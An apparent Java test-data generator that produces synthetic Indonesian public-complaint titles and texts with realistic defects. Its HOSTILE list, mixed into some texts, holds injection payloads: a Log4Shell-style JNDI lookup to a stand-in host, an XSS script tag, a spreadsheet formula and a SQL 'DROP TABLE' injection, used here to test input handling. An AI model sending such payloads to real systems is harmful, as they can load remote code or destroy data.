package id.aduan.lapor.simulator.generate;

import id.aduan.lapor.simulator.NewComplaint;
import java.util.List;
import java.util.random.RandomGenerator;

/** Titles and texts with the faults of real ones: glued words, line breaks, the exact limit. */
final class Texts {
  /** Passages that have broken templates, logs, shells, spreadsheets and pages. */
  static final List<String> HOSTILE =
      List.of(
          "Kata petugas \"tunggu saja\", kata 'atasan' {{institution_to}} dan {{prop}}.",
          "Nilai ${x} dan ${jndi:ldap://contoh.example/a} tercetak di struk.",
          "Terima kasih 🙏🏽 semoga cepat 👨‍👩‍👧.",
          "<script>alert('lapor')</script> & <b>tebal</b> tampil di layar.",
          "=HYPERLINK(\"http://contoh.example\") tertulis di tabel; '); DROP TABLE laporan;--",
          "Berkas C:\\laporan\\%s dan 100% \\n tertulis begitu saja.",
          "{\"isi\": [1, \"dua\"]} ]]> tersalin dari aplikasi.");

  private static final List<String> PLACES =
      List.of(
          "Jl. Merdeka RT 02 RW 05",
          "Kampung Bugis",
          "Jl.\u00a0Pelabuhan No. 17",
          "Perumahan Griya Indah Blok C",
          "Desa Teluk Sasah",
          "Pasar Baru");

  private final RandomGenerator random;

  Texts(RandomGenerator random) {
    this.random = random;
  }

  String place() {
    return pick(PLACES);
  }

  /** 2 % have the greatest length seen. */
  String title(Topic topic) {
    String title = pick(topic.titles());
    return oneIn(50) ? filled(title + " di", NewComplaint.TITLE_CHARS_MAX, topic) : title;
  }

  /** 4 % hold something hostile, 3 % have exactly the greatest length. */
  String content(Topic topic) {
    var text = new StringBuilder(oneIn(25) ? pick(HOSTILE) + "\n" : "");
    text.append("Lokasi di ").append(place()).append('.');
    int sentences = 2 + random.nextInt(8);
    boolean gluing = random.nextInt(100) < 42;
    for (int i = 0; i < sentences; i++) {
      text.append(gap(gluing)).append(pick(topic.sentences()));
    }
    return oneIn(33)
        ? filled(text.toString(), NewComplaint.CONTENT_CHARS_MAX, topic)
        : text.toString();
  }

  /** Grows to exactly this length, and ends within a word if it must. */
  private String filled(String start, int chars, Topic topic) {
    var text = new StringBuilder(start);
    while (text.length() < chars) {
      text.append(' ').append(pick(topic.sentences()));
    }
    text.setLength(chars);
    if (Character.isWhitespace(text.charAt(chars - 1))) {
      text.setCharAt(chars - 1, '.');
    }
    return text.toString();
  }

  /** Glued where the portal removed a line break without a space. */
  private String gap(boolean gluing) {
    if (gluing && oneIn(2)) {
      return "";
    }
    return oneIn(4) ? "\n" : " ";
  }

  boolean oneIn(int cases) {
    return random.nextInt(cases) == 0;
  }

  <T> T pick(List<T> values) {
    return values.get(random.nextInt(values.size()));
  }
}
